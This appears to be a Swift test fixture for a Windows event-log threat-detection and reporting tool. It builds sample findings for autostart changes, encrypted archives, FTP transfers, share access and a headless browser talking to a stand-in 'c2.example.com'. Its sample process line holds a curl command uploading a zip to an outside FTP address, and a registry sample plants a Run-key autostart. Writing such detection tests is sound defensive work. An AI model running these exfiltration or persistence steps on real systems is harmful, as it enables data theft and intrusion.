import Detection
import EventFiles
import Events
import Foundation

@testable import Analysis
@testable import Reports

/// Findings of every watch and lines of the logs, as the stages before would hand them over.
enum ReportExamples {
    struct Example: Sendable {
        var event: Event
        var verdict: Verdict
        var finding: Finding?
        var log: LogName?
    }

    static let clock = LocalTime(zone: TimeZone(identifier: "Asia/Tokyo"))

    static let runKeys = rule(
        "registry.run-keys", .registry, .high, ["T1547.001"], "An autostart was changed", "自動起動が変更されました")
    static let packed = rule(
        "archive.encrypted", .archive, .medium, ["T1560.001"], "An archive with a password", "パスワード付きの圧縮")
    static let sent = rule("transfer.ftp-client", .transfer, .medium, ["T1048.003"], "A file was sent", "ファイルが送信されました")
    static let touched = rule(
        "file-operation.place", .fileOperation, .low, ["T1039"], "A place was touched", "登録した場所の操作")
    static let hidden = rule(
        "browser.unexpected-connection", .browser, .critical, ["T1071.001"], "Nobody drives it", "操作する人がいません")

    static func rule(
        _ id: String, _ watch: WatchName, _ level: Level, _ techniques: [String], _ en: String, _ ja: String
    ) -> Rule {
        Rule(
            id, watch, level, techniques, name: Text(en: en, ja: ja), falsePositives: Text(en: "none", ja: "なし"))
    }

    /// 2026-04-01T00:00:00Z and so many seconds.
    static func time(_ seconds: Int64) -> Timestamp { .seconds(1_775_001_600 + seconds) }

    static func event(_ seconds: Int64, _ activity: Activity, host: String = "PC-7", pid: UInt32 = 4_712) -> Event {
        var event = Event(time: time(seconds), host: host, activity: activity)
        event.user = User(name: #"EXAMPLE\hanako"#, id: "S-1-5-21-1-2-3-1001")
        event.process = Process(
            executable: #"C:\Tools\curl.exe"#, pid: pid, commandLine: #"curl -T C:\data\a.zip ftp://198.51.100.7/"#)
        event.ancestors = [
            Process(executable: #"C:\Windows\System32\cmd.exe"#), Process(executable: #"C:\Windows\explorer.exe"#),
        ]
        event.attribution = .exact
        event.origin.file = "logs.zip!PC-7.evtx"
        event.origin.sequence = UInt64(seconds)
        event.origin.channel = "Microsoft-Windows-Sysmon/Operational"
        event.origin.recordID = UInt64(1_000 + seconds)
        return event
    }

    static let registry = {
        var registry = RegistryActivity(.valueSet, #"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\見附"#)
        registry.value = "見附"
        registry.data = #"C:\Temp\u.exe"#
        registry.oldData = "old"
        var verdict = Verdict()
        verdict.file(in: .registry)
        return Example(
            event: event(1, .registry(registry)), verdict: verdict, finding: Finding(runKeys), log: .registry)
    }()

    static let archive = {
        var verdict = Verdict()
        verdict.file(in: .archive)
        verdict.file(in: .process)
        verdict.archiveFormat = "zip"
        verdict.archiveEncrypted = true
        let file = FileActivity(.create, #"C:\data\a.zip"#)
        return Example(
            event: event(2, .file(file)), verdict: verdict,
            finding: Finding(packed, level: .high, techniques: ["T1560.001", "T1027"]), log: .archive)
    }()

    static func transfer(_ direction: TransferDirection?) -> Example {
        var verdict = Verdict()
        verdict.file(in: .transfer)
        verdict.file(in: .process)
        verdict.transferDirection = direction
        verdict.url = "ftp://198.51.100.7/"
        verdict.destinationDomain = "198.51.100.7"
        return Example(
            event: event(3, .process(ProcessActivity(.start))), verdict: verdict, finding: Finding(sent), log: .transfer
        )
    }

    static let fileOperation = {
        var file = FileActivity(.read, #"D:\Share\総務\名簿.xlsx"#)
        file.clientIP = "192.0.2.7"
        file.clientPort = 50_123
        file.share = #"\\FS01\Share"#
        var verdict = Verdict()
        verdict.file(in: .fileOperation)
        var event = Self.event(4, .file(file), host: "FS01.example.jp")
        event.process = Process()
        event.ancestors = []
        return Example(event: event, verdict: verdict, finding: Finding(touched), log: .fileOperation)
    }()

    static let browser = {
        var network = NetworkActivity()
        network.direction = .outbound
        network.destinationIP = "2001:db8::1"
        network.destinationPort = 8_443
        var verdict = Verdict()
        verdict.file(in: .unexpectedTCP)
        verdict.browserClass = .unexpected
        verdict.browserReasons = ["headless", "no-dns"]
        verdict.destinationDomain = "c2.example.com"
        return Example(
            event: event(5, .network(network)), verdict: verdict, finding: Finding(hidden), log: .unexpectedTCP)
    }()

    static let process = {
        var verdict = Verdict()
        verdict.file(in: .process)
        return Example(
            event: event(0, .process(ProcessActivity(.start))), verdict: verdict, finding: nil, log: .process)
    }()

    static let all = [
        process, registry, archive, transfer(.upload), transfer(.download), transfer(.unknown), transfer(nil),
        fileOperation,
        browser,
    ]

    /// What `format` writes of the examples' findings, or of their log lines.
    static func written(
        _ examples: [Example], _ format: any EventFormat, logs: Bool = false, summary: Summary = Summary()
    ) -> [UInt8] {
        var text = TextBuffer()
        for example in examples {
            if logs, let log = example.log { format.append(log, of: example.event, example.verdict, to: &text) }
            if !logs, let finding = example.finding {
                format.append(finding, of: example.event, example.verdict, to: &text)
            }
        }
        return format.head + text.bytes + format.tail(summary)
    }

    static func text(_ bytes: [UInt8]) -> String { String(decoding: bytes, as: UTF8.self) }

    static let summary = {
        var summary = Summary()
        summary.findings = [
            .registry: [.high: 1], .archive: [.high: 1], .transfer: [.medium: 4], .fileOperation: [.low: 1_234],
            .browser: [.critical: 1],
        ]
        summary.recordCount = 1_234_567
        summary.fileCount = 2
        summary.firstTime = time(0)
        summary.lastTime = time(86_400)
        summary.skippedFiles = 3
        summary.problemCount = 1
        return summary
    }()
}
